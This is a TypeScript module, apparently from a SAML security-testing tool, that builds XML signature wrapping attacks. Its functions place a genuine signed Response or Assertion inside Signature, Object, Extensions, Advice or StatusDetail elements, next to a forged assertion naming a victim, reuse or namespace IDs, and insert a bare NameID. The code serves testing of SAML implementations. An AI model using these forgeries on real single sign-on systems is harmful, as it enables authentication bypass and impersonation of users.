/** Signature wrapping: the signed bytes stay as they are, only elsewhere; what is read in their place names the victim. */

// The eight shapes are those of «On Breaking SAML» (USENIX Security 2012) as SAML Raider numbers them.

import type { Facts, Mutation } from '../protocol/types.ts';
import { insertAt, replaceSpan, rootOf, setAttribute } from '../protocol/xml-text.ts';
import { child, first, outerOfFirst } from './elements.ts';
import { asVictim, behindIssuer, eachAssertion, forgedAssertion, signatureOf, withoutOwnSignature } from './victim.ts';

interface Parts {
  /** The whole message. */
  xml: string;
  /** The genuine signed element with and without its Signature, and that Signature. */
  signed: string;
  bare: string;
  signature: string;
}

function parts(xml: string, local: 'Response' | 'Assertion'): Parts {
  const signed = outerOfFirst(xml, local);
  return { xml, signed, bare: withoutOwnSignature(signed), signature: signatureOf(xml, local) };
}

/** Puts text inside the Signature as its last child. */
function inside(signature: string, text: string): string {
  const root = rootOf(signature);
  if (!root) throw new Error('Expected a signed element to wrap, found no Signature: the case needs another placement');
  return insertAt(signature, root.closeStart, text);
}

function wrapResponse(build: (parts: Parts, forged: string) => string): Mutation {
  return {
    afterSigning: (xml, facts) => {
      const plan = eachAssertion(asVictim(facts.plan, facts), (one) => ({ ...one, id: facts.newId() }));
      const forged = facts.issueHonest({ ...plan, id: facts.newId(), signing: {} });
      return build(parts(xml, 'Response'), forged);
    },
  };
}

function wrapAssertion(build: (parts: Parts, facts: Facts) => string): Mutation {
  return {
    afterSigning: (xml, facts) => {
      const genuine = parts(xml, 'Assertion');
      return replaceSpan(xml, first(xml, 'Assertion'), build(genuine, facts));
    },
  };
}

const inObject = (text: string): string => `<Object xmlns="http://www.w3.org/2000/09/xmldsig#">${text}</Object>`;

/** A forged Response carries the genuine Signature, and inside it the genuine Response. */
export const responseInSignature = (): Mutation =>
  wrapResponse(({ bare, signature }, forged) => behindIssuer(forged, inside(signature, bare)));

/** A forged Response holds the genuine Response and after it the detached Signature. */
export const responseBeforeSignature = (): Mutation =>
  wrapResponse(({ bare, signature }, forged) => behindIssuer(forged, bare + signature));

/** Puts text before the signed assertion. */
export const beforeAssertion = (text: (facts: Facts) => string): Mutation =>
  wrapAssertion(({ signed }, facts) => text(facts) + signed);

/** The forged assertion stands before the signed one. */
export const forgedBefore = (): Mutation =>
  wrapAssertion(({ signed }, facts) => forgedAssertion(facts, facts.newId()) + signed);

/** The forged assertion stands after the signed one. */
export const forgedAfter = (): Mutation =>
  wrapAssertion(({ signed }, facts) => signed + forgedAssertion(facts, facts.newId()));

/** The signed assertion is the last child of the forged one. */
export const genuineInForged = (): Mutation =>
  wrapAssertion(({ signed }, facts) => {
    const forged = forgedAssertion(facts, facts.newId());
    return insertAt(forged, first(forged, 'Assertion').closeStart, signed);
  });

/** The forged assertion keeps the Signature; the genuine one stands behind it without. */
export const signatureOnForged = (): Mutation =>
  wrapAssertion(({ bare, signature }, facts) => behindIssuer(forgedAssertion(facts, facts.newId()), signature) + bare);

/** The genuine assertion stands inside the Signature that the forged one carries. */
export const genuineInSignature = (): Mutation =>
  wrapAssertion(({ bare, signature }, facts) =>
    behindIssuer(forgedAssertion(facts, facts.newId()), inside(signature, bare)),
  );

/** The genuine assertion stands in a ds:Object of the Signature; both share one ID. */
export const genuineInObject = (): Mutation =>
  wrapAssertion(({ bare, signature }, facts) =>
    behindIssuer(forgedAssertion(facts, idOf(facts)), inside(signature, inObject(bare))),
  );

/** The same, but the forged assertion has an ID of its own. */
export const genuineInOwnObject = (): Mutation =>
  wrapAssertion(({ bare, signature }, facts) =>
    behindIssuer(forgedAssertion(facts, facts.newId()), inside(signature, inObject(bare))),
  );

/** Extensions hold the forged assertion, with the ID of the signed one, and come first. */
export const forgedInExtensions = (): Mutation => extensions((_genuine, forged) => [forged, null]);

/** Extensions hold the genuine signed assertion; the forged one, with its ID, stands where assertions stand. */
export const genuineInExtensions = (): Mutation => extensions((genuine, forged) => [genuine, forged]);

/** The genuine assertion stands in the Advice of the forged one. */
export const genuineInAdvice = (): Mutation =>
  wrapAssertion(({ signed }, facts) => {
    const forged = forgedAssertion(facts, facts.newId());
    return insertAt(forged, first(forged, 'Conditions').end, `<Advice>${signed}</Advice>`);
  });

/** StatusDetail holds the genuine assertion; the forged one stands in its place. */
export const genuineInStatusDetail = (): Mutation => ({
  afterSigning: (xml, facts) => {
    const genuine = outerOfFirst(xml, 'Assertion');
    const edited = replaceSpan(xml, first(xml, 'Assertion'), forgedAssertion(facts, facts.newId()));
    const prefix = prefixOf(edited);
    return insertAt(
      edited,
      first(edited, 'StatusCode').end,
      `<${prefix}StatusDetail>${genuine}</${prefix}StatusDetail>`,
    );
  },
});

/** A forged assertion with the ID of the signed one stands before it. */
export const sameIdBefore = (): Mutation =>
  wrapAssertion(({ signed }, facts) => forgedAssertion(facts, idOf(facts)) + signed);

/** The forged assertion before the signed one has an ID of its own, and a namespaced one that repeats the signed ID. */
export const namespacedId = (): Mutation =>
  wrapAssertion(({ signed }, facts) => {
    const forged = forgedAssertion(facts, facts.newId());
    const protocol = 'urn:oasis:names:tc:SAML:2.0:protocol';
    const declared = setAttribute(forged, first(forged, 'Assertion'), 'xmlns:p', protocol);
    return setAttribute(declared, first(declared, 'Assertion'), 'p:ID', idOf(facts) ?? '') + signed;
  });

/** Extensions hold a bare NameID of the victim; the signed assertion stays as it is. */
export const bareNameId = (): Mutation => ({
  afterSigning: (xml, facts) => {
    const forged = forgedAssertion(facts, undefined);
    const namespace = 'urn:oasis:names:tc:SAML:2.0:assertion';
    const nameId = setAttribute(
      outerOfFirst(forged, 'NameID'),
      first(outerOfFirst(forged, 'NameID'), 'NameID'),
      'xmlns',
      namespace,
    );
    return withExtensions(xml, nameId);
  },
});

function prefixOf(xml: string): string {
  return first(xml, 'Response').name.slice(0, -'Response'.length);
}

/** Puts Extensions with this content before the Status. */
export function withExtensions(xml: string, content: string): string {
  const status = child(xml, first(xml, 'Response'), 'Status');
  if (!status) throw new Error('Expected a Status to put Extensions before, found none');
  const prefix = prefixOf(xml);
  return insertAt(xml, status.start, `<${prefix}Extensions>${content}</${prefix}Extensions>`);
}

function extensions(place: (genuine: string, forged: string) => [hidden: string, inPlace: string | null]): Mutation {
  return {
    afterSigning: (xml, facts) => {
      const [hidden, inPlace] = place(outerOfFirst(xml, 'Assertion'), forgedAssertion(facts, idOf(facts)));
      const edited = inPlace === null ? xml : replaceSpan(xml, first(xml, 'Assertion'), inPlace);
      return withExtensions(edited, hidden);
    },
  };
}

function idOf(facts: Facts): string | undefined {
  return facts.plan.assertions[0]?.id;
}
